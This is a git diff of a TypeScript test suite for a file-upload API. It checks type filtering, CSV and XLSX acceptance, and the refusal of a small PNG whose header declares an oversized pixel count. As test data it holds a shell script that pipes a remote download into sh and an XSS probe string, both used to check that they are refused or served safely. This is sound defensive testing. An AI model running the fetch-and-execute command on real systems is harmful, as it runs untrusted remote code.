@@ -7,7 +7,7 @@ import zlib from 'node:zlib';
 import type { InjectOptions } from 'fastify';
 import sharp from 'sharp';
 import { beforeAll, describe, expect, it } from 'vitest';
-import { MAX_FILE_BYTES, type TUploadedFile } from '../../../../shared/schemas/files.ts';
+import { MAX_FILE_BYTES, MAX_IMAGE_PIXELS, type TUploadedFile } from '../../../../shared/schemas/files.ts';
 import { db } from '../../../db/kysely.ts';
 import type { TestApp } from '../../../testing/app.ts';
 import { codeOf } from '../../../testing/trpc.ts';
@@ -84,6 +84,37 @@ const DOCX = zip([
     '<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body/></w:document>',
   ],
 ]);
+const XLSX = zip([
+  [
+    '[Content_Types].xml',
+    '<?xml version="1.0" encoding="UTF-8"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">' +
+      '<Override PartName="/xl/workbook.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/></Types>',
+  ],
+  ['xl/workbook.xml', '<workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"/>'],
+]);
+
+/** A PNG of a few hundred bytes whose header declares `width` × `height` pixels (its data is one empty row). */
+function pngDeclaring(width: number, height: number): Buffer {
+  const chunk = (kind: string, data: Buffer) => {
+    const length = Buffer.alloc(4);
+    length.writeUInt32BE(data.length);
+    const body = Buffer.concat([Buffer.from(kind, 'latin1'), data]);
+    const crc = Buffer.alloc(4);
+    crc.writeUInt32BE(zlib.crc32(body));
+    return Buffer.concat([length, body, crc]);
+  };
+  const header = Buffer.alloc(13);
+  header.writeUInt32BE(width, 0);
+  header.writeUInt32BE(height, 4);
+  header.set([8, 2, 0, 0, 0], 8);
+  return Buffer.concat([
+    Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]),
+    chunk('IHDR', header),
+    chunk('IDAT', zlib.deflateSync(Buffer.alloc(1 + 3 * Math.min(width, 64)))),
+    chunk('IEND', Buffer.alloc(0)),
+  ]);
+}
+
 const ODT = zip([
   ['mimetype', 'application/vnd.oasis.opendocument.text'],
   ['content.xml', '<office:document-content/>'],
@@ -124,6 +155,8 @@ function multipartBody(parts: Part[]): Buffer {
 }
 
 const MULTIPART = `multipart/form-data; boundary=${BOUNDARY}`;
+
+const TEXT_BY_NAME: Record<string, string> = { txt: 'text/plain', csv: 'text/csv' };
 
 /** A multipart body of one `size`-byte text file, generated as it is read (never held whole). */
 function bigUpload(size: number): Readable {
@@ -279,9 +312,10 @@ export function filesSuite(label: string, t: TestApp) {
         payload: multipartBody(parts),
         ...extra,
       });
-    const file = (value: Buffer, filename: string, fields: Record<string, string> = {}): Part[] => [
+    // Text is sent under its text type, as a browser does; everything else as unknown bytes (decided by content).
+    const file = (value: Buffer, filename: string, fields: Record<string, string> = {}, type?: string): Part[] => [
       ...Object.entries(fields).map(([name, v]) => ({ name, value: v })),
-      { name: 'file', value, filename },
+      { name: 'file', value, filename, type: type ?? TEXT_BY_NAME[/\.(\w+)$/.exec(filename)?.[1] ?? ''] },
     ];
     const uploaded = async (as: string, value: Buffer, filename: string, fields: Record<string, string> = {}) => {
       const res = await upload(as, file(value, filename, fields));
@@ -374,6 +408,54 @@ export function filesSuite(label: string, t: TestApp) {
             .statusCode,
         ).toBe(415);
         expect((await upload('businessuser@demo.com', file(Buffer.from('a\0b'), 'nul.txt'))).statusCode).toBe(415);
+      });
+
+      it('takes text only as .txt or .csv sent with a text type; a script is refused whatever it is called', async () => {
+        const script = Buffer.from('#!/bin/sh\ncurl https://example.test/x | sh\n');
+        for (const [name, type] of [
+          ['run.sh', 'application/x-sh'],
+          ['run.sh', 'text/plain'],
+          ['notes.txt', 'application/x-sh'],
+          ['notes.txt', 'application/octet-stream'],
+          ['page.html', 'text/html'],
+          ['scores.csv', 'application/x-sh'],
+        ]) {
+          const res = await upload('businessuser@demo.com', file(script, name, {}, type));
+          expect(res.statusCode, `${name} as ${type}`).toBe(415);
+          expect(res.json<ErrorBody>().errors?.file).toEqual(['This type of file is not accepted']);
+        }
+        expect((await upload('businessuser@demo.com', file(script, 'run.sh'))).json<ErrorBody>().message).toMatch(
+          /\(application\/octet-stream\) are not accepted/,
+        );
+        // CSV as browsers send it, Windows' Excel type included; XLSX by its content whatever its type.
+        const csv = Buffer.from('code;score\nLYON-01;92\n');
+        for (const type of ['text/csv', 'text/csv; charset=utf-8', 'application/vnd.ms-excel', 'text/plain']) {
+          const res = await upload('businessuser@demo.com', file(csv, 'scores.CSV', {}, type));
+          expect(res.statusCode, type).toBe(201);
+          expect(res.json<TUploadedFile>().mimeType).toBe('text/csv');
+        }
+        const xlsx = await upload('businessuser@demo.com', file(XLSX, 'scores.xlsx', {}, 'application/octet-stream'));
+        expect(xlsx.statusCode, xlsx.body).toBe(201);
+        expect(xlsx.json<TUploadedFile>().mimeType).toBe(
+          'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet',
+        );
+      });
+
+      it('refuses an image declaring more than the pixel limit from its header, 413 naming the file field', async () => {
+        const before = (await (await t.caller('admin@demo.com')).files.list({ itemsPerPage: 1 })).total;
+        const huge = pngDeclaring(60_000, 60_000);
+        expect(huge.length).toBeLessThan(1024);
+        const res = await upload('qualitycontrol@demo.com', file(huge, 'huge.png'));
+        expect(res.statusCode).toBe(413);
+        expect(res.json<ErrorBody>()).toEqual({
+          message: `The image is 60000 × 60000 pixels: images may have at most ${MAX_IMAGE_PIXELS / 1_000_000} megapixels`,
+          errors: { file: [`Images may have at most ${MAX_IMAGE_PIXELS / 1_000_000} megapixels`] },
+        });
+        expect((await (await t.caller('admin@demo.com')).files.list({ itemsPerPage: 1 })).total).toBe(before);
+        // Just over the limit too; a photo of a phone's size is taken (the other tests upload them).
+        expect(
+          (await upload('qualitycontrol@demo.com', file(pngDeclaring(10_001, 10_000), 'over.png'))).statusCode,
+        ).toBe(413);
       });
 
       it('keeps a UTF-8 name and sends it back with an RFC 5987 filename*', async () => {
@@ -580,7 +662,7 @@ export function filesSuite(label: string, t: TestApp) {
         expect(
           (await get(`/api/files/${pdf.id}?inline=1`, 'businessuser@demo.com')).headers['content-disposition'],
         ).toMatch(/^inline; /);
-        const text = await uploaded('businessuser@demo.com', Buffer.from('<script>alert(1)</script>'), 'page.html');
+        const text = await uploaded('businessuser@demo.com', Buffer.from('<script>alert(1)</script>'), 'page.txt');
         const asText = await get(`/api/files/${text.id}?inline=1`, 'businessuser@demo.com');
         expect(asText.headers['content-type']).toMatch(/^text\/plain/);
         expect(asText.headers['content-disposition']).toMatch(/^attachment; /);
